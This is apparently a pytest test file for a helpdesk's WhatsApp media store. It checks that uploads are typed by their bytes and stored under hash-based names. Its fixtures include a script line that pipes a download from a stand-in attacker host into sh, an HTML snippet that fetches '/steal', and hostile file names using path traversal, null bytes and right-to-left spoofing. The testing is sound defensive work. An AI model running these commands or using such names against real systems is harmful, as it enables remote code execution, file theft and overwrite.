"""The media store (helpdesk/whatsapp/media.py): a file's type read from its bytes, not from
the sender's claim; the stored name generated from the content; the sender's file name kept
only as cleaned display metadata."""
import os
import unicodedata
from pathlib import Path

import pytest

from helpdesk.config import load_channel_config
from helpdesk.whatsapp import MediaError, identify, kind_for, store
from helpdesk.whatsapp.media import DISPLAY_NAME_MAX, detect_type, display_name

PROJECT = Path(__file__).resolve().parents[3]
ACCEPTED = load_channel_config(PROJECT / "config" / "channels.yml").media_allowed

JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 32
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 32
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00"
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 16
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj"
OGG = b"OggS\x00\x02\x00\x00" + b"\x00" * 20 + b"OpusHead"
MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom"
M4A = b"\x00\x00\x00\x1cftypM4A \x00\x00\x00\x00M4A mp42isom"
MP3 = b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x00"
DOCX = (b"PK\x03\x04\x14\x00\x06\x00[Content_Types].xml" + b"\x00" * 8
        + b"PK\x03\x04word/document.xml")
XLS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 32
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 32
HTML = b"<!DOCTYPE html><html><script>fetch('/steal')</script></html>"
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
TEXT = "Caja 3 no imprime desde las 9:15.\nTicket anterior: HD-1234\n".encode()


@pytest.mark.parametrize("data, claimed, expected", [
    (JPEG, "image/jpeg", "image/jpeg"),
    (PNG, "image/png", "image/png"),
    (GIF, None, "image/gif"),
    (WEBP, "image/webp", "image/webp"),
    (PDF, "application/pdf", "application/pdf"),
    (OGG, "audio/ogg; codecs=opus", "audio/ogg"),
    (MP4, "video/mp4", "video/mp4"),
    (MP4, "audio/mp4", "audio/mp4"),  # one container for both: the claim picks
    (M4A, "video/mp4", "audio/mp4"),  # … unless the brand says
    (MP3, "audio/mpeg", "audio/mpeg"),
    (DOCX, "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
     "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    (DOCX[:12] + b"just a zip", "application/vnd.openxmlformats-officedocument.wordprocessingml"
     ".document", "application/zip"),
    (XLS, "application/vnd.ms-excel", "application/vnd.ms-excel"),
    (XLS, "image/jpeg", "application/x-ole-storage"),
    (ELF, "image/jpeg", "application/x-executable"),
    (HTML, "image/jpeg", "text/html"),
    (b"  <html><body>hi", "text/plain", "text/html"),
    (SCRIPT, "text/plain", "text/x-script"),
    (TEXT, "text/plain", "text/plain"),
    (b"\x00\x01\x02\x03binary", "application/pdf", None),
])
def test_the_type_is_what_the_bytes_are(data, claimed, expected):
    assert detect_type(data, claimed) == expected


def test_a_real_jpeg_with_a_wrong_claimed_type_is_kept_as_the_jpeg_it_is(tmp_path):
    for claimed in ("application/pdf", "text/plain", None, "application/x-msdownload"):
        assert identify(JPEG, claimed, ACCEPTED) == "image/jpeg"
    stored = store(JPEG, identify(JPEG, "application/pdf", ACCEPTED),
                   kind_for("image/jpeg", "document"), "factura.pdf", directory=tmp_path)
    assert stored.path.endswith(".jpg") and stored.mime_type == "image/jpeg"
    assert stored.kind == "image"
    assert stored.filename == "factura.jpg"  # shown with the extension of what it is


@pytest.mark.parametrize("data, claimed", [
    (HTML, "image/jpeg"),      # a "photo" that is a web page
    (SCRIPT, "image/jpeg"),
    (ELF, "image/jpeg"),       # a .jpg that is an executable
    (ELF, "application/pdf"),
    (TEXT, "image/jpeg"),      # text is not a picture
    (TEXT, "application/pdf"),
    (HTML, "text/plain"),      # markup is not plain text
    (SCRIPT, "text/plain"),
    (b"\x00\x01\x02 no signature", "audio/ogg"),
    (DOCX[:12] + b"zip", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
])
def test_a_mislabelled_file_is_refused(data, claimed):
    with pytest.raises(MediaError) as refused:
        identify(data, claimed, ACCEPTED)
    assert refused.value.refused and claimed.split(";")[0] in str(refused.value)


def test_plain_text_sent_as_text_is_accepted():
    assert identify(TEXT, "text/plain", ACCEPTED) == "text/plain"
    assert identify(TEXT, None, ACCEPTED) == "text/plain"


def test_the_kind_follows_the_content_but_keeps_a_voice_note():
    assert kind_for("audio/ogg", "voice") == "voice"
    assert kind_for("image/webp", "sticker") == "sticker"
    assert kind_for("image/jpeg", "document") == "image"
    assert kind_for("application/pdf", "image") == "document"
    assert kind_for("audio/mp4", "video") == "audio"


HOSTILE = [
    "foto\x00.php",
    "factura\u202egpj.exe",                   # shows as "factuRAexe.jpg"
    "a" * 1000 + ".jpg",
    "../../.env",
    "..\\..\\windows\\system32\\x.jpg",
    "/etc/passwd",
    "\u200f\u2066línea\nnueva\r\t.jpg\u2069",
    "   ",
    "\x00\u202e",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_name_never_names_the_stored_file(tmp_path, name):
    stored = store(JPEG, "image/jpeg", "image", name, directory=tmp_path)
    path = Path(stored.path)
    assert path.resolve().parent.parent == tmp_path.resolve()
    assert path.name == f"{stored.sha256}.jpg"
    assert sorted(p.name for p in path.parent.iterdir()) == [path.name]
    shown = stored.filename
    if shown is not None:
        assert len(shown) <= DISPLAY_NAME_MAX
        assert "/" not in shown and "\\" not in shown and not shown.startswith(".")
        assert not any(unicodedata.category(ch) in ("Cc", "Cf") for ch in shown)
        assert shown.endswith(".jpg")
    assert stored.to_dict()["filename"] == shown


def test_display_names_keep_what_a_person_can_read():
    assert display_name("factura\u202egpj.exe") == "facturagpj.exe"
    assert display_name("../../.env") == "env"
    assert display_name("C:\\Users\\ana\\Informe final.pdf") == "Informe final.pdf"
    assert display_name("foto\x00.php") == "foto.php"
    long = display_name("a" * 1000 + ".jpg")
    assert len(long) == DISPLAY_NAME_MAX and long.endswith(".jpg")
    assert len(display_name("b" * 1000)) == DISPLAY_NAME_MAX
    assert display_name("Reseña ñandú.docx") == "Reseña ñandú.docx"
    assert display_name("\x00\u202e") is None and display_name(None) is None
    assert display_name(12) is None


def test_the_same_content_is_one_file_whatever_its_names(tmp_path):
    first = store(PNG, "image/png", "image", "a.png", directory=tmp_path)
    second = store(PNG, "image/png", "image", "../b.exe", directory=tmp_path)
    assert first.path == second.path and first.path.endswith(".png")
    assert (first.filename, second.filename) == ("a.png", "b.png")


def test_storing_the_same_bytes_again_renews_the_files_time(tmp_path):
    """Retention deletes media by file time (workers/retention_jobs.py): a photo sent again
    today is today's, not the first sending's."""
    first = store(b"\xff\xd8\xff foto", "image/jpeg", "image", directory=tmp_path)
    os.utime(first.path, (1000.0, 1000.0))
    again = store(b"\xff\xd8\xff foto", "image/jpeg", "image", directory=tmp_path)
    assert again.path == first.path
    assert os.path.getmtime(again.path) > 1000.0
